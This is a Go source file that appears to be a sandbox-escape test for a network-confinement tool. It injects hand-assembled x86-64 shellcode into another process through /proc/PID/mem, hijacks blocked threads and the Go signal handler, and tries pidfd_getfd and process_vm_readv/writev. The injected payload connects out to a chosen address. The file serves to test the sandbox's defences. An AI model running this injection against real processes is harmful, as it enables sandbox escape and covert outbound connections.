//go:build linux

// Package procmem is the attack of issue 35: a process writes code into
// another process of its user through /proc/PID/mem, which seccomp cannot
// trap (an open and a pwrite), and the other process, which may hold more
// network rights (nettrap's reaper or waker, the go command whose calls
// are the toolchain's, any unconfined process), makes the connection. It
// also tries the other ways into a process that the kernel checks as
// ptrace access: process_vm_readv and process_vm_writev, pidfd_getfd, and
// a signal.
//
// The payload is hand-assembled x86-64: socket, connect to a given IPv4
// address, send a marker, exit_group(77). It goes at the victim's ELF
// entry point (code that ran once, at its start); a jump to it
// goes at the return address of every thread's blocked syscall (from
// /proc/PID/task/TID/syscall) and at the Go runtime's signal handler
// (runtime.sigtramp, from the binary's symbol table) where there is one.
// SIGURG (which the Go runtime handles and a shell ignores) then runs it
// at once in a Go process; any other runs it when a blocked call returns.
//
// The file uses the standard library alone: integration's
// TestEscapeProcMem copies it into the small test module whose test
// attacks the go command that runs it (see integration/testdata/procmem).
package procmem

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

// PayloadExit is the status the payload exits with: a victim that exits
// so ran it.
const PayloadExit = 77

// MaxMarker bounds the marker, which makes the payload longer.
const MaxMarker = 40

// Step is one attempt on the victim.
type Step struct {
	Name  string `json:"name"`
	OK    bool   `json:"ok"`
	Errno string `json:"errno,omitempty"`
	Err   string `json:"err,omitempty"`
}

// Result is what Attack did.
type Result struct {
	Pid      int    `json:"pid"`
	Steps    []Step `json:"steps"`
	Jumps    int    `json:"jumps"`    // jumps written (thread PCs and the signal handler)
	Sigtramp bool   `json:"sigtramp"` // the Go runtime's signal handler was found
	Injected bool   `json:"injected"` // the payload is in the victim's memory
	Exited   bool   `json:"exited"`   // the victim died after the trigger
}

// Step returns the step named name (zero if it was not tried).
func (r Result) Step(name string) Step {
	for _, s := range r.Steps {
		if s.Name == name {
			return s
		}
	}
	return Step{}
}

// Options says what to take and where the payload connects.
type Options struct {
	Dst    netip.AddrPort // an IPv4 address: the payload's connect
	Marker string         // what the payload writes
	// StealFD is the victim's descriptor pidfd_getfd takes; StealMarker,
	// when set, is written to it.
	StealFD     int
	StealMarker string
	// Wait bounds the wait for the victim to die after the trigger.
	Wait time.Duration
	// Injected, when set, is called with the result so far once the
	// payload is in, before the trigger: a victim dying of it may take
	// the attacker with it (an inner nettrap dies with its go command,
	// and the test binary with that nettrap).
	Injected func(Result)
}

// The steps, in the order Attack tries them.
const (
	StepFind   = "find"              // the victim not found: nothing else tried
	StepKill   = "kill"              // kill(pid, SIGURG)
	StepGetfd  = "pidfd_getfd"       // pidfd_open, then pidfd_getfd(StealFD)
	StepRegs   = "syscall"           // /proc/PID/task/*/syscall
	StepVMRead = "process_vm_readv"  // 8 bytes at a blocked thread's stack pointer
	StepVMWrit = "process_vm_writev" // the same 8 bytes written back
	StepOpen   = "open"              // /proc/PID/mem, O_RDWR
	StepAuxv   = "auxv"              // AT_ENTRY from /proc/PID/auxv
	StepWrite  = "pwrite"            // the payload and the jumps
	StepSignal = "trigger"           // kill(pid, SIGURG) again
)

// Attack tries every step on pid, and injects the payload when it can.
func Attack(pid int, o Options) Result {
	r := Result{Pid: pid}
	add := func(name string, err error) bool {
		s := Step{Name: name, OK: err == nil}
		if err != nil {
			s.Err = err.Error()
			var en syscall.Errno
			if errors.As(err, &en) {
				s.Errno = errnoName(en)
			}
		}
		r.Steps = append(r.Steps, s)
		return err == nil
	}
	if o.Wait == 0 {
		o.Wait = 10 * time.Second
	}

	add(StepKill, syscall.Kill(pid, syscall.SIGURG))
	add(StepGetfd, steal(pid, o.StealFD, o.StealMarker))
	// A thread on its CPU reads "running" (the victim shell forking its
	// sleep, say): under load or in a QEMU guest, one look can find none
	// blocked, and the attack would aim at an unmapped address.
	threads, err := blockedThreads(pid)
	for deadline := time.Now().Add(2 * time.Second); err == nil && len(threads) == 0 && time.Now().Before(deadline); {
		time.Sleep(10 * time.Millisecond)
		threads, err = blockedThreads(pid)
	}
	add(StepRegs, err)
	word, addr := make([]byte, 8), uintptr(0x10000) // unmapped: never a write that lands
	if len(threads) > 0 {
		addr = threads[0].sp
	}
	if add(StepVMRead, vmRW(false, pid, word, addr)) {
		add(StepVMWrit, vmRW(true, pid, word, addr)) // the same bytes back
	} else {
		add(StepVMWrit, vmRW(true, pid, word, 0x10000))
	}

	mem, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR|syscall.O_CLOEXEC, 0)
	if !add(StepOpen, err) {
		return r
	}
	defer mem.Close()
	if runtime.GOARCH != "amd64" {
		add(StepWrite, fmt.Errorf("the payload is x86-64 code; this is %s", runtime.GOARCH))
		return r
	}
	entry, err := auxEntry(pid)
	if !add(StepAuxv, err) {
		return r
	}
	code, err := Payload(o.Dst, o.Marker)
	if err != nil {
		add(StepWrite, err)
		return r
	}
	sigtramp := sigtrampAddr(pid, entry)
	r.Sigtramp = sigtramp != 0
	jumps, err := inject(mem, pid, entry, code, sigtramp, threads)
	r.Jumps = jumps
	if !add(StepWrite, err) {
		return r
	}
	r.Injected = true
	if o.Injected != nil {
		o.Injected(r)
	}
	err = syscall.Kill(pid, syscall.SIGURG)
	if errors.Is(err, syscall.ESRCH) {
		// Gone already: a thread ran into a jump before the trigger
		// (it woke on its own), and the payload ended the victim.
		err = nil
	}
	add(StepSignal, err)
	r.Exited = waitExit(pid, o.Wait)
	return r
}

// inject writes code at entry and a jump to it at each blocked thread's
// return address (read again now: the first read may have found every
// thread running) and at the signal handler.
func inject(mem *os.File, pid int, entry uintptr, code []byte, sigtramp uintptr, threads []thread) (int, error) {
	for i := 0; len(threads) == 0 && i < 50; i++ {
		time.Sleep(20 * time.Millisecond)
		threads, _ = blockedThreads(pid)
	}
	targets := map[uintptr]bool{}
	for _, th := range threads {
		targets[th.pc] = true
	}
	if sigtramp != 0 {
		targets[sigtramp] = true
	}
	if len(targets) == 0 {
		return 0, errors.New("no thread blocked in a syscall, and no signal handler found")
	}
	end := entry + uintptr(len(code))
	for pc := range targets {
		if pc+uintptr(len(jump(pc, entry))) > entry && pc < end {
			return 0, fmt.Errorf("a jump site %#x lies in the payload's place [%#x, %#x)", pc, entry, end)
		}
	}
	if _, err := mem.WriteAt(code, int64(entry)); err != nil {
		return 0, err
	}
	n := 0
	for pc := range targets {
		if _, err := mem.WriteAt(jump(pc, entry), int64(pc)); err != nil {
			return n, err
		}
		n++
	}
	return n, nil
}

// Payload is the x86-64 code: socket(AF_INET, SOCK_STREAM, 0),
// connect(dst), sendto(marker, MSG_NOSIGNAL), exit_group(77). Position-independent: the
// address and the marker follow the code, reached RIP-relative.
func Payload(dst netip.AddrPort, marker string) ([]byte, error) {
	if !dst.Addr().Is4() {
		return nil, fmt.Errorf("payload: %s is not IPv4", dst)
	}
	// What follows the entry point is overwritten too: in a Go binary of
	// today, code that never runs without cgo (runtime.sigprofNonGoWrapper)
	// for some 140 bytes past _rt0_amd64_linux.
	if len(marker) > MaxMarker {
		return nil, fmt.Errorf("payload: a marker of %d bytes (at most %d)", len(marker), MaxMarker)
	}
	const (
		leaSA  = 21 // lea rsi, [rip+sa]: the instruction's offset
		leaMsg = 40 // lea rsi, [rip+msg]
		saOff  = 85 // the sockaddr_in after the code
		msgOff = saOff + 16
	)
	c := []byte{
		0xb8, 0x29, 0, 0, 0, // mov eax, 41 (socket)
		0xbf, 0x02, 0, 0, 0, // mov edi, 2 (AF_INET)
		0xbe, 0x01, 0, 0, 0, // mov esi, 1 (SOCK_STREAM)
		0x31, 0xd2, // xor edx, edx
		0x0f, 0x05, // syscall
		0x89, 0xc7, // mov edi, eax (the socket; syscall keeps rdi, rsi, rdx)
		0x48, 0x8d, 0x35, 0, 0, 0, 0, // 21: lea rsi, [rip+sa]
		0xba, 0x10, 0, 0, 0, // mov edx, 16
		0xb8, 0x2a, 0, 0, 0, // mov eax, 42 (connect)
		0x0f, 0x05, // syscall
		0x48, 0x8d, 0x35, 0, 0, 0, 0, // 40: lea rsi, [rip+msg]
		0xba, 0, 0, 0, 0, // 47: mov edx, len(marker)
		0x41, 0xba, 0, 0x40, 0, 0, // mov r10d, 0x4000 (MSG_NOSIGNAL: no SIGPIPE where the connect failed)
		0x45, 0x31, 0xc0, // xor r8d, r8d (no address: the connected peer)
		0x45, 0x31, 0xc9, // xor r9d, r9d
		0xb8, 0x2c, 0, 0, 0, // mov eax, 44 (sendto)
		0x0f, 0x05, // syscall
		0xbf, PayloadExit, 0, 0, 0, // mov edi, 77
		0xb8, 0xe7, 0, 0, 0, // mov eax, 231 (exit_group)
		0x0f, 0x05, // syscall
		0xeb, 0xfe, // jmp . (not reached)
	}
	if len(c) != saOff {
		return nil, fmt.Errorf("payload: code is %d bytes, want %d", len(c), saOff)
	}
	binary.LittleEndian.PutUint32(c[leaSA+3:], uint32(saOff-(leaSA+7)))
	binary.LittleEndian.PutUint32(c[leaMsg+3:], uint32(msgOff-(leaMsg+7)))
	binary.LittleEndian.PutUint32(c[leaMsg+8:], uint32(len(marker)))
	sa := make([]byte, 16) // sockaddr_in
	binary.LittleEndian.PutUint16(sa, syscall.AF_INET)
	binary.BigEndian.PutUint16(sa[2:], dst.Port())
	a := dst.Addr().As4()
	copy(sa[4:], a[:])
	return append(append(c, sa...), marker...), nil
}

// jump is code at pc that jumps to target: `jmp rel32` where it
// reaches, else `movabs rax, target; jmp rax` (a shell's libc is more
// than 2 GiB from its executable; rax is the payload's to set).
func jump(pc, target uintptr) []byte {
	d := int64(target) - int64(pc+5)
	if d == int64(int32(d)) {
		b := []byte{0xe9, 0, 0, 0, 0}
		binary.LittleEndian.PutUint32(b[1:], uint32(int32(d)))
		return b
	}
	b := []byte{0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0}
	binary.LittleEndian.PutUint64(b[2:], uint64(target))
	return b
}

// thread is a thread blocked in a syscall: its stack pointer and the
// address the call returns to.
type thread struct{ sp, pc uintptr }

// blockedThreads reads /proc/PID/task/*/syscall ("NR ARGS… SP PC" for a
// thread in a syscall, "running" or "-1 SP PC" otherwise).
func blockedThreads(pid int) ([]thread, error) {
	dir := fmt.Sprintf("/proc/%d/task", pid)
	tasks, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var out []thread
	var firstErr error
	for _, t := range tasks {
		b, err := os.ReadFile(filepath.Join(dir, t.Name(), "syscall"))
		if err != nil {
			if firstErr == nil {
				firstErr = err
			}
			continue
		}
		f := strings.Fields(string(b))
		if len(f) < 3 || f[0] == "running" || strings.HasPrefix(f[0], "-") {
			continue
		}
		sp, err1 := strconv.ParseUint(strings.TrimPrefix(f[len(f)-2], "0x"), 16, 64)
		pc, err2 := strconv.ParseUint(strings.TrimPrefix(f[len(f)-1], "0x"), 16, 64)
		if err1 == nil && err2 == nil {
			out = append(out, thread{uintptr(sp), uintptr(pc)})
		}
	}
	if len(out) == 0 && firstErr != nil {
		return nil, firstErr
	}
	return out, nil
}

// steal takes fd from pid with pidfd_getfd and writes marker to it.
func steal(pid, fd int, marker string) error {
	const sysPidfdOpen, sysPidfdGetfd = 434, 438 // the same on every architecture
	pfd, _, e := syscall.Syscall(sysPidfdOpen, uintptr(pid), 0, 0)
	if e != 0 {
		return os.NewSyscallError("pidfd_open", e)
	}
	defer syscall.Close(int(pfd))
	got, _, e := syscall.Syscall(sysPidfdGetfd, pfd, uintptr(fd), 0)
	if e != 0 {
		return os.NewSyscallError("pidfd_getfd", e)
	}
	defer syscall.Close(int(got))
	if marker == "" {
		return nil
	}
	_, err := syscall.Write(int(got), []byte(marker))
	return os.NewSyscallError("write to the taken descriptor", err)
}

// vmRW reads or writes len(buf) bytes at addr in pid.
func vmRW(write bool, pid int, buf []byte, addr uintptr) error {
	name, nr := "process_vm_readv", uintptr(0)
	switch runtime.GOARCH { // not in package syscall for every architecture
	case "amd64":
		nr = 310
	case "arm64":
		nr = 270
	default:
		return fmt.Errorf("%s: no syscall number for %s here", name, runtime.GOARCH)
	}
	if write {
		name, nr = "process_vm_writev", nr+1
	}
	local := syscall.Iovec{Base: &buf[0], Len: uint64(len(buf))}
	remote := struct{ base, len uintptr }{addr, uintptr(len(buf))}
	n, _, e := syscall.Syscall6(nr, uintptr(pid), uintptr(unsafe.Pointer(&local)), 1,
		uintptr(unsafe.Pointer(&remote)), 1, 0)
	if e != 0 {
		return fmt.Errorf("%s at %#x: %w", name, addr, e)
	}
	if int(n) != len(buf) {
		return fmt.Errorf("%s: %d of %d bytes", name, n, len(buf))
	}
	return nil
}

// auxEntry is AT_ENTRY of pid: its ELF entry point, load bias included.
func auxEntry(pid int) (uintptr, error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/auxv", pid))
	if err != nil {
		return 0, err
	}
	const atEntry = 9
	for i := 0; i+16 <= len(b); i += 16 {
		if binary.LittleEndian.Uint64(b[i:]) == atEntry {
			return uintptr(binary.LittleEndian.Uint64(b[i+8:])), nil
		}
	}
	return 0, errors.New("no AT_ENTRY in auxv")
}

// sigtrampAddr finds the Go runtime's signal handler in the symbol table
// of pid's executable (0 where there is none: not Go, or stripped).
func sigtrampAddr(pid int, entry uintptr) uintptr {
	f, err := os.Open(fmt.Sprintf("/proc/%d/exe", pid))
	if err != nil {
		return 0
	}
	defer f.Close()
	fileEntry, value, err := elfSymbol(f, "runtime.sigtramp", "runtime.sigtramp.abi0")
	if err != nil || value == 0 {
		return 0
	}
	return uintptr(value) + entry - uintptr(fileEntry) // the load bias: 0 unless PIE
}

// elfSymbol reads a little-endian ELF64 file's entry point and the value
// of the first symbol in .symtab named one of names.
func elfSymbol(f *os.File, names ...string) (entry, value uint64, err error) {
	hdr := make([]byte, 64)
	if _, err := f.ReadAt(hdr, 0); err != nil {
		return 0, 0, err
	}
	if !bytes.HasPrefix(hdr, []byte("\x7fELF\x02\x01")) {
		return 0, 0, errors.New("not a little-endian ELF64 file")
	}
	le := binary.LittleEndian
	entry = le.Uint64(hdr[0x18:])
	shoff, shentsize, shnum := le.Uint64(hdr[0x28:]), int(le.Uint16(hdr[0x3a:])), int(le.Uint16(hdr[0x3c:]))
	if shentsize < 64 || shnum == 0 {
		return entry, 0, errors.New("no section headers")
	}
	sh := make([]byte, shentsize*shnum)
	if _, err := f.ReadAt(sh, int64(shoff)); err != nil {
		return entry, 0, err
	}
	section := func(i int) (typ uint32, off, size uint64, link int) {
		s := sh[i*shentsize:]
		return le.Uint32(s[4:]), le.Uint64(s[0x18:]), le.Uint64(s[0x20:]), int(le.Uint32(s[0x28:]))
	}
	for i := range shnum {
		typ, off, size, link := section(i)
		if typ != 2 || link >= shnum { // SHT_SYMTAB
			continue
		}
		syms := make([]byte, size)
		if _, err := f.ReadAt(syms, int64(off)); err != nil {
			return entry, 0, err
		}
		_, stroff, strsize, _ := section(link)
		strs := make([]byte, strsize)
		if _, err := f.ReadAt(strs, int64(stroff)); err != nil {
			return entry, 0, err
		}
		for j := 0; j+24 <= len(syms); j += 24 {
			n := int(le.Uint32(syms[j:]))
			if n >= len(strs) {
				continue
			}
			name := strs[n:]
			if k := bytes.IndexByte(name, 0); k >= 0 {
				name = name[:k]
			}
			for _, want := range names {
				if string(name) == want {
					return entry, le.Uint64(syms[j+8:]), nil
				}
			}
		}
	}
	return entry, 0, errors.New("symbol not found")
}

// waitExit waits until pid is a zombie or gone.
func waitExit(pid int, d time.Duration) bool {
	for deadline := time.Now().Add(d); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if state, _, err := stat(pid); err != nil || state == "Z" || state == "X" {
			return true
		}
	}
	return false
}

// stat reads the state and parent of pid from /proc/PID/stat.
func stat(pid int) (state string, ppid int, err error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return "", 0, err
	}
	i := bytes.LastIndexByte(b, ')')
	if i < 0 {
		return "", 0, errors.New("bad stat")
	}
	f := strings.Fields(string(b[i+1:]))
	if len(f) < 2 {
		return "", 0, errors.New("bad stat")
	}
	ppid, err = strconv.Atoi(f[1])
	return f[0], ppid, err
}

// argv0 is the first word of pid's command line.
func argv0(pid int) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	s, _, _ := strings.Cut(string(b), "\x00")
	return s
}

// comm is pid's command name.
func comm(pid int) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
	return strings.TrimSpace(string(b))
}

// FindGo walks up from this process's parent to the go command.
func FindGo() (int, error) {
	var seen []string
	for pid := os.Getppid(); pid > 1; {
		if comm(pid) == "go" {
			return pid, nil
		}
		seen = append(seen, fmt.Sprintf("%d %s", pid, argv0(pid)))
		_, ppid, err := stat(pid)
		if err != nil {
			return 0, err
		}
		pid = ppid
	}
	return 0, fmt.Errorf("no go command among the ancestors (%s)", strings.Join(seen, ", "))
}

// Role names of nettrap's helpers (argv[0]).
const (
	ReaperArgv0 = "nettrap-reaper"
	WakerArgv0  = "nettrap-ptrace-waker"
)

// FindReaper is nettrap's reaper: the leader of this process's group.
func FindReaper() (int, error) {
	pgid := syscall.Getpgrp()
	if a := argv0(pgid); a != ReaperArgv0 {
		return 0, fmt.Errorf("the process group's leader %d is %q, not %s", pgid, a, ReaperArgv0)
	}
	return pgid, nil
}

// FindWaker is the ptrace engine's waker: a child of this process's
// parent (the tracing nettrap) under WakerArgv0.
func FindWaker() (int, error) {
	ppid := os.Getppid()
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return 0, err
	}
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		if _, pp, err := stat(pid); err == nil && pp == ppid && argv0(pid) == WakerArgv0 {
			return pid, nil
		}
	}
	return 0, fmt.Errorf("no %s among the children of %d", WakerArgv0, ppid)
}

// Find resolves a target: "go", "reaper", "waker" or a pid.
func Find(target string) (int, error) {
	switch target {
	case "go":
		return FindGo()
	case "reaper":
		return FindReaper()
	case "waker":
		return FindWaker()
	}
	pid, err := strconv.Atoi(target)
	if err != nil || pid <= 0 {
		return 0, fmt.Errorf("bad target %q", target)
	}
	return pid, nil
}

// errnoName is the symbolic name of the errnos the steps meet.
func errnoName(e syscall.Errno) string {
	names := map[syscall.Errno]string{
		syscall.EPERM: "EPERM", syscall.EACCES: "EACCES", syscall.ESRCH: "ESRCH",
		syscall.EFAULT: "EFAULT", syscall.EBADF: "EBADF", syscall.ENOENT: "ENOENT",
		syscall.EINVAL: "EINVAL", syscall.ENOSYS: "ENOSYS", syscall.EIO: "EIO",
	}
	if n, ok := names[e]; ok {
		return n
	}
	return fmt.Sprintf("errno %d", int(e))
}
